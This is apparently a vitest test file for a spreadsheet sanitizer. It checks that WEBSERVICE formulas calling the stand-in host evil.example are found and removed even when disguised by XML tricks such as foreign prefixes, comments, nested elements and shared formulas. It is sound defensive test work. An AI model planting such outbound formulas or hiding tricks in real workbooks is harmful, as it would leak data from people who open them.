import { expect, test } from 'vitest';
import { readWorkbook } from '../read.ts';
import { annotateCells } from '../testing/annotate-cells.ts';
import { workbookFile } from '../testing/workbook-file.ts';
import { openZip } from '../zip/open-zip.ts';

const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const OUT = '_xlfn.WEBSERVICE("http://evil.example/")';
const cell = (formula: string): string => `<c r="A1" t="str">${formula}<v>было</v></c>`;

/** What is found in a sheet with these rows and what stands behind them, and all that its annotated copy says. */
function looked(cells: string, behind = ''): { found: (string | null)[]; copy: string; texts: unknown[] } {
  const sheet = `<worksheet xmlns="${MAIN}"><sheetData><row r="1">${cells}</row></sheetData>${behind}</worksheet>`;
  const file = workbookFile({ sheets: [sheet] });
  const annotated = annotateCells(file, 'Лист1', 'C3');
  const zip = openZip(annotated);
  return {
    found: readWorkbook(file).callouts.found.map((one) => one.cell),
    copy: zip.names.map((name) => zip.text(name)).join('\n'),
    texts: readWorkbook(annotated)
      .sheets.at(-1)!
      .cells.map(({ value }) => value),
  };
}

test.each([
  ['a sign that ends tags in an attribute', `<f ref=">A1">${OUT}</f>`],
  ['the end of an empty element in an attribute', `<f ref="/>">${OUT}</f>`],
  ['a prefix in other letters', `<ф:f xmlns:ф="${MAIN}">${OUT}</ф:f>`],
  ['an element before it that begins alike', `<fx>"</fx><f>${OUT}</f>`],
  ['an element in it, before its text', `<f><z:f xmlns:z="urn:z"/>${OUT}</f>`],
  ['an element in it, behind its text', `<f>${OUT}<z:f xmlns:z="urn:z"/></f>`],
  ['an element in it that is named as a value', `<f><z:v xmlns:z="urn:z"/>${OUT}</f>`],
  [
    'an element with a text between its letters',
    '<f>_xlfn.WEB<z xmlns="urn:z">x</z>SERVICE("http://evil.example/")</f>',
  ],
  ['a comment', `<f><!-- </f> -->${OUT}</f>`],
])('a formula is found and removed behind %s', (_, formula) => {
  const { found, copy, texts } = looked(cell(formula));
  expect(found).toEqual(['A1']);
  expect(copy).not.toContain('evil.example');
  expect(texts).toEqual(['было']);
});

test('a cell loses a shared formula that is written behind it, or numbered otherwise', () => {
  const shared = (at: string, attributes: string, formula = ''): string =>
    `<c r="${at}" t="str"><f t="shared" ${attributes}>${formula}</f><v>${at}</v></c>`;
  const { found, copy, texts } = looked(
    shared('A1', 'si="0"') + shared('B1', 'ref="A1:C1" si="00"', OUT) + shared('C1', 'si="0"'),
  );
  expect(new Set(found)).toEqual(new Set(['A1', 'B1', 'C1']));
  expect(copy).not.toContain('t="shared"');
  expect(texts).toEqual(['A1', 'B1', 'C1']);
});

test('a shared formula that stays within the workbook stays, in whatever order', () => {
  const { found, copy } = looked(
    '<c r="A1"><f t="shared" si="0"/><v>1</v></c><c r="B1"><f t="shared" ref="A1:B1" si="0">C1+1</f><v>2</v></c>',
  );
  expect(found).toEqual([]);
  expect(copy).toContain('<f t="shared" si="0"/>');
});

test('an element within the formula of a rule hides nothing; in an extension a formula may stand in another', () => {
  const rule = (formula: string): string =>
    `<conditionalFormatting sqref="B5"><cfRule type="expression" priority="1">${formula}</cfRule></conditionalFormatting>`;
  const hidden = looked('', rule(`<formula><z:f xmlns:z="urn:z"/>${OUT}</formula>`));
  expect(hidden.found).toEqual(['B5']);
  expect(hidden.copy).toContain('<formula>#REF!</formula>');
  expect(hidden.copy).not.toContain('evil.example');
  const own = '<x:formula1 xmlns:x="urn:x"><x:f>$A$1:$A$3</x:f></x:formula1>';
  const kept = looked('', `<dataValidations><dataValidation sqref="B5">${own}</dataValidation></dataValidations>`);
  expect(kept.found).toEqual([]);
  expect(kept.copy).toContain(own);
});
